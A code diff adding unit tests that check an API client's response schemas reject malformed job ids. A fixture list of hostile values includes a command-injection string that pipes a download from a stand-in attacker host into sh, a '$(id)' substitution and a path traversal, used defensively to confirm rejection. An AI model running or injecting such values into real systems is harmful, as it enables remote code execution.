@@ -7,6 +7,7 @@ import {
   modelListSchema as ModelList,
   splitManifestSchema as SplitManifest,
 } from '../../../src/api/schemas.js';
+import { validate } from '../../../src/api/interpret.js';
 
 describe('response schemas', () => {
   it('let unknown fields pass through, at the root and in open maps', () => {
@@ -42,5 +43,52 @@ describe('response schemas', () => {
     expect(SplitManifest.safeParse(manifest(7, ['a', '1-3'], ['b', 'four'], ['c', '7'])).success).toBe(false); // not a range
     expect(SplitManifest.safeParse(manifest(7, ['a', '1-3'], ['a', '4-6'], ['c', '7'])).success).toBe(false); // one id twice
     expect(SplitManifest.safeParse(manifest(0)).success).toBe(false);
+  });
+
+  describe('job ids are data: an id that is not a plain token is a malformed answer', () => {
+    const HOSTILE: [string, string][] = [
+      ['a shell command', 'job_7f3a; curl -s http://attacker.example/i | sh #'],
+      ['a parent folder', '../x'],
+      ['a 10 KB id', `job_${'a'.repeat(10_240)}`],
+      ['a space', 'job 1'],
+      ['a newline', 'job\n1'],
+      ['a command substitution', '$(id)'],
+      ['an empty id', ''],
+    ];
+    const manifest = (parent: string, chunk: string): unknown => ({ success: true, data: [{ job_id: chunk, pages: '1-3' }], job_id: parent, pages: 3, expires_at: 't' });
+
+    it('accepts the ids the emulator makes and the spec shows', () => {
+      for (const id of ['job_0a1b2c3d4e5f60718293a4b5', 'job-1', 'p', 'A_b-9']) {
+        expect(SplitManifest.safeParse(manifest(id, `${id}c`)).success, id).toBe(true);
+        expect(CollectedResult.safeParse({ success: true, data: {}, job_id: id, status: 'complete' }).success, id).toBe(true);
+      }
+    });
+
+    it.each(HOSTILE)('refuses %s as a parent id, a chunk id, a processed chunk and a collected job', (_what, id) => {
+      expect(SplitManifest.safeParse(manifest(id, 'job_c')).success).toBe(false);
+      expect(SplitManifest.safeParse(manifest('job_p', id)).success).toBe(false);
+      expect(ChunkProcessed.safeParse({ success: true, job_id: id, status: 'done', code: 'chunk_processed' }).success).toBe(false);
+      expect(CollectedResult.safeParse({ success: true, data: {}, job_id: id, status: 'complete' }).success).toBe(false);
+    });
+
+    it('the refusal is a ResponseValidationError (response_validation_failed) whose message does not repeat the id', () => {
+      const hostile = HOSTILE[0]?.[1] as string;
+      let caught: unknown;
+      try {
+        validate('documents', 202, SplitManifest, manifest('job_p', hostile));
+      } catch (error) {
+        caught = error;
+      }
+      expect(caught).toMatchObject({ name: 'ResponseValidationError', code: 'response_validation_failed', status: 202 });
+      expect((caught as Error).message).toContain('data.0.job_id');
+      expect((caught as Error).message).not.toContain('curl');
+    });
+
+    it('a 10 KB id is refused by its length', () => {
+      const long = `job_${'a'.repeat(10_240)}`;
+      const result = CollectedResult.safeParse({ success: true, data: {}, job_id: long, status: 'complete' });
+      expect(result.success).toBe(false);
+      expect(JSON.stringify(result.error?.issues)).toContain('at most 128');
+    });
   });
 });
